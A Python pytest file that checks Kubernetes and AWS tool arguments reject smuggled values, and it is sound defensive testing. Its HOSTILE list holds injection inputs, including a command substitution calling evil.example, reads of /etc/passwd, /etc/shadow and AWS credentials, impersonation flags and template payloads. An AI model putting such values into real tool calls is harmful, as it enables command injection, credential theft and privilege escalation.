"""No argument of any tool says where to connect, who asks or where to write, and none smuggles anything."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from pydantic import BaseModel, JsonValue

from tools.aws.accounts import Accounts
from tools.aws.registry import aws_tools
from tools.errors import Invalid
from tools.gate import Gate
from tools.kubernetes.connection.clusters import Clusters
from tools.kubernetes.registry import kubernetes_tools
from tools.tool import Arguments, Registry, Scope, Tool
from tools.tricks import FREE_TEXT

HOSTILE = (
    "-o/etc/passwd",
    "--kubeconfig=/tmp/other",
    "--as=system:admin",
    " --all",
    "–server",
    "../../kube-system/secrets/root",
    "web/../../x",
    "..",
    "/etc/shadow",
    "~/.kube/config",
    "@/root/.aws/credentials",
    "..\\..\\x",
    "web%2f..%2fsecrets",
    "web%00",
    "https://evil.example/steal",
    "file:///etc/passwd",
    "file:/etc/passwd",
    "//evil.example",
    "data:text/plain,x",
    "$(curl evil.example)",
    "${HOME}",
    "`id`",
    "{{ .Values.token }}",
    "{% raw %}",
    "{.data.password}",
    "$.items[*].data",
    "{range .items[*]}",
    "$[0]",
    "web[?(@.type)]",
    "web\nkind: Secret",
    "web\x00",
    "web\x1b[2J",
    "we\u202eb",
    "web\u200b",
)

GOOD: dict[str, JsonValue] = {
    "name": "web",
    "kind": "deployment",
    "replicas": 1,
    "image": "registry.example/web:1",
    "verb": "get",
    "resource": "pods",
    "id": "shop/web",
    "cluster": "shop",
    "service": "web",
    "desired": 1,
    "instance_ids": ["i-0123456789abcdef0"],
    "manifest": {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "web"}},
    "manifests": [{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "web"}}],
    "patch": {"spec": {"replicas": 1}},
}
"""A valid value for every argument that some tool requires."""

FREE = {
    "kubernetes_annotate.set",
    "kubernetes_apply.manifest",
    "kubernetes_apply_all.manifests",
    "kubernetes_create.manifest",
    "kubernetes_label.set",
    "kubernetes_logs.grep",
    "kubernetes_logs.regex",
    "kubernetes_patch.patch",
    "kubernetes_restore.apply",
    "kubernetes_set_env.set",
}
"""What may hold any text at all. Whoever adds to it says in the review why it names nothing."""


def registry() -> Registry:
    gate, _ = Gate.build()
    environ = {"HOME": str(Path("/nonexistent"))}
    return Registry([*kubernetes_tools(Clusters(None, gate, environ)), *aws_tools(Accounts(gate, environ))])


TOOLS = list(registry())


def valid(tool: Tool[Arguments, BaseModel]) -> dict[str, JsonValue]:
    needed = [name for name, field in tool.Args.model_fields.items() if field.is_required()]
    return {name: GOOD[name] for name in needed}


def places(schema: JsonValue, root: dict[str, JsonValue], word: str) -> Iterator[JsonValue]:
    """Values of the schema's shape that hold the word, once at each place where text can stand."""
    if not isinstance(schema, dict):
        return
    if isinstance(ref := schema.get("$ref"), str):
        definitions = root["$defs"]
        assert isinstance(definitions, dict)
        yield from places(definitions[ref.rpartition("/")[2]], root, word)
    for choice in schema.get("anyOf") or []:  # type: ignore[union-attr]
        yield from places(choice, root, word)
    match schema.get("type"):
        case "string":
            yield word
        case "array":
            yield from ([inner] for inner in places(schema.get("items"), root, word))
        case "object":
            properties = schema.get("properties")
            if isinstance(properties, dict):
                others = {"key": "a", "name": "a", "kind": "pod", "effect": "NoSchedule"}
                for name, inner in properties.items():
                    for value in places(inner, root, word):
                        filled = {key: others[key] for key in properties if key in others}
                        yield {**filled, name: value}
            elif isinstance(inner := schema.get("additionalProperties"), dict):
                yield from ({"a": value} for value in places(inner, root, word))
                yield from ({word: value} for value in places(inner, root, "1"))


def words() -> Iterator[tuple[str, str]]:
    for tool in TOOLS:
        for name in tool.Args.model_fields:
            yield tool.name, name


@pytest.mark.parametrize(("tool", "argument"), list(words()))
def test_no_argument_takes_a_value_that_means_more_than_it_says(tool: str, argument: str) -> None:
    found = registry().get(tool)
    found.parse(valid(found))
    schema = found.Args.model_json_schema()
    if f"{tool}.{argument}" in FREE:
        assert FREE_TEXT in found.Args.model_fields[argument].metadata
        return
    for word in HOSTILE:
        for value in places(schema["properties"][argument], schema, word):
            with pytest.raises(Invalid):
                found.parse({**valid(found), argument: value})


def test_only_what_is_listed_here_is_free_text() -> None:
    free = {
        f"{tool.name}.{name}"
        for tool in TOOLS
        for name, field in tool.Args.model_fields.items()
        if FREE_TEXT in field.metadata
    }
    assert free == FREE


CONNECTION = re.compile(
    r"(^|_)(server|host|url|uri|endpoint|proxy|port|kubeconfig|config|token|password|secret_key|credentials?|profile"
    r"|region|context|as|as_user|as_group|impersonate|user|role|account|insecure|verify|ca|cert|key_file|output|out"
    r"|file|path|dir|folder|stdin|command|shell|exec)($|_)"
)
NO_CONNECTION = {
    "kubernetes_compare.other_context": "one of the operator's own contexts by name, for a read",
    "kubernetes_drain.delete_empty_dir_data": "the name of a kind of volume",
    "kubernetes_set_env.from_config_map": "the name of an object",
}


def test_no_argument_says_where_to_connect_who_asks_or_where_to_write() -> None:
    named = {f"{tool.name}.{name}" for tool in TOOLS for name in tool.Args.model_fields}
    assert {name for name in named if CONNECTION.search(name.partition(".")[2])} == set(NO_CONNECTION)


@pytest.mark.parametrize("tool", TOOLS, ids=lambda tool: tool.name)
@pytest.mark.parametrize(
    "extra", ["kubeconfig", "as", "server", "endpoint_url", "profile", "output", "role_arn"]
)
def test_what_a_tool_does_not_know_is_refused(tool: Tool[Arguments, BaseModel], extra: str) -> None:
    with pytest.raises(Invalid, match=extra):
        tool.parse({**valid(tool), extra: "x"})


@pytest.mark.parametrize("field", ["namespace", "region"])
@pytest.mark.parametrize("word", HOSTILE)
def test_a_scope_holds_no_trick_either(field: str, word: str) -> None:
    with pytest.raises(ValueError, match=field):
        Scope.model_validate({field: word})


def test_a_region_is_never_part_of_another_address() -> None:
    for region in ("evil.example/", "eu-west-1.evil.example", "eu west 1", "eu-west-1#", "user@evil"):
        with pytest.raises(ValueError, match="region"):
            Scope(region=region)
    assert Scope(region="us-gov-west-1", namespace="shop").region == "us-gov-west-1"


@pytest.mark.parametrize("field", ["apiVersion", "kind", "name", "namespace"])
@pytest.mark.parametrize("word", HOSTILE)
def test_what_a_manifest_is_called_holds_no_trick(field: str, word: str) -> None:
    metadata = {"name": "web", **({field: word} if field.startswith("name") else {})}
    top = {} if field.startswith("name") else {field: word}
    manifest: JsonValue = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, **top}
    for tool, args in (
        ("kubernetes_apply", {"manifest": manifest}),
        ("kubernetes_create", {"manifest": manifest}),
        ("kubernetes_apply_all", {"manifests": [manifest]}),
        ("kubernetes_restore", {"apply": [manifest]}),
    ):
        with pytest.raises(Invalid):
            registry().get(tool).parse(args)


@pytest.mark.parametrize(
    ("tool", "argument", "value"),
    [
        ("kubernetes_list", "labels", "app in (web,db),!canary,tier!=front"),
        ("kubernetes_list", "fields", "status.phase!=Running,spec.nodeName=node-1"),
        (
            "kubernetes_list",
            "columns",
            ["spec.containers[*].image", "metadata.labels[app.kubernetes.io/name]"],
        ),
        ("kubernetes_set_env", "from_field", {"NODE": "metadata.labels['app']"}),
        ("kubernetes_set_image", "image", "registry.example:5000/shop/web@sha256:0123456789abcdef"),
        ("kubernetes_get", "name", "system:node-proxier"),
        ("kubernetes_compare", "other_context", "arn:aws:eks:eu-central-1:123456789012:cluster/shop"),
        ("kubernetes_compare", "other_context", "admin@shop"),
        ("aws_ec2_list", "tags", {"Team": "Shop & Checkout", "kubernetes.io/cluster/shop": "owned"}),
        ("aws_ec2_describe", "id", "checkout worker 3"),
        ("kubernetes_logs", "regex", r"^-+ \$\{.*\} https?://"),
    ],
)
def test_ordinary_values_are_no_tricks(tool: str, argument: str, value: JsonValue) -> None:
    found = registry().get(tool)
    found.parse({**valid(found), argument: value})
